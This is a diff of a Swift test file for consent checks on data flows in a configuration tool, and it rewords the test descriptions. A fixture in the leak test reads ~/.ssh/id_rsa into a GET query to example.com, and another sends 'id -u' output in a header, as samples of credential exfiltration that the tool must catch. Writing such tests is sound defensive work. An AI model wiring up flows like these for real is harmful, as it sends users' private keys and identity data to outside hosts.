@@ -18,7 +18,7 @@ struct FlowConsentTests {
     }
 
     @Test(
-        "A choice of a source, and a chosen row, are content that goes into a request; choices of the file and typed texts are not"
+        "Choices from a source and chosen rows count as content in a request; choices in the file and typed texts do not"
     )
     func selections() throws {
         let (board, problems) = readBoard(
@@ -45,7 +45,7 @@ struct FlowConsentTests {
         #expect(!texts.contains { $0.contains("other.json") })
     }
 
-    @Test("A file that a GET to a public host carries is asked for")
+    @Test("A file whose content is sent with a GET to a public host needs consent")
     func leak() throws {
         let list = try list(
             "  keys: { file: ~/.ssh/id_rsa }\n  it: { http: 'https://example.com/?k=${source.keys}' }\n")
@@ -53,7 +53,7 @@ struct FlowConsentTests {
     }
 
     @Test(
-        "A line says from which file, command or server content comes, where it goes, and where in the request",
+        "A consent line shows the source of content, its destination, and its place in the request",
         arguments: [
             (
                 "a: { command: id -u }", "http: https://e.example, headers: { X-User: '${source.a}' }",
@@ -90,7 +90,7 @@ struct FlowConsentTests {
         #expect(try flows("  \(giver)\n  it: { \(taker) }\n") == [line])
     }
 
-    @Test("Content of sources made of others names what they are made of")
+    @Test("Content of derived sources is shown with their members")
     func composed() throws {
         let sources = """
               a: { file: x }
@@ -106,7 +106,7 @@ struct FlowConsentTests {
             ])
     }
 
-    @Test("Content that goes back to the server that gave it needs no line; another port, scheme or host does")
+    @Test("Content sent back to its server needs no line; another port, scheme or host does")
     func back() throws {
         func flows(_ giver: String, _ taker: String) throws -> Int {
             try self.flows("  a: { http: '\(giver)' }\n  it: { http: '\(taker)' }\n").count
@@ -118,7 +118,7 @@ struct FlowConsentTests {
         #expect(try flows("https://e.example/login", "${source.a.next}") == 1)
     }
 
-    @Test("Items of a source are its content, and those of a list in the file need no line")
+    @Test("Items of a source count as its content; items listed in the file need no line")
     func items() throws {
         func texts(_ items: String) throws -> [String] {
             let each = "each: { service: \(items) }, http: 'https://e.example/${item.service.name}'"
@@ -128,7 +128,7 @@ struct FlowConsentTests {
         #expect(try texts("[{ name: a }]") == [])
     }
 
-    @Test("A variable that a filter puts into content is named where the content goes, also back to its server")
+    @Test("A variable that a filter inserts into content is shown with its destinations, including the same server")
     func variables() throws {
         let (board, _) = readBoard(
             """
@@ -154,7 +154,7 @@ struct FlowConsentTests {
     }
 
     @Test(
-        "Items and parameters of pages are written in the file: a variable in them would go to a server unnamed",
+        "Items and parameters of pages are written in the file, since a variable in them would be sent unnoticed",
         arguments: [
             "each: { s: ['${env.T}'] }, http: 'https://e.example/${item.s}'",
             "each: { s: ['${board.dir}'] }, http: 'https://e.example/${item.s}'",
@@ -167,7 +167,7 @@ struct FlowConsentTests {
         #expect(problems.allSatisfy { $0.contains("a variable cannot be part of it") })
     }
 
-    @Test("Content in a body whose form nobody knows is refused")
+    @Test("Content in a body of an unknown form is rejected")
     func body() {
         func problems(_ options: String) -> [String] {
             readBoard("sources:\n  a: { file: x }\n  it: { http: 'https://e.example/', method: POST, \(options) }\n")
@@ -179,7 +179,7 @@ struct FlowConsentTests {
         #expect(problems("body: 'a=${source.a}&b=1', \(form)") == [])
     }
 
-    @Test("A command that gets what a filter brings from another source is told so")
+    @Test("A command that receives content from another source through a filter is shown with it")
     func filtered() throws {
         let text = """
             sources:
@@ -190,7 +190,7 @@ struct FlowConsentTests {
         #expect(list.items.map(\.text) == ["alert (gets file ./x): say"])
     }
 
-    @Test("A key that gets the response of a request with content in it is told so")
+    @Test("A key that receives the response of a request with content is shown with it")
     func passedOn() throws {
         let text = """
             sources:
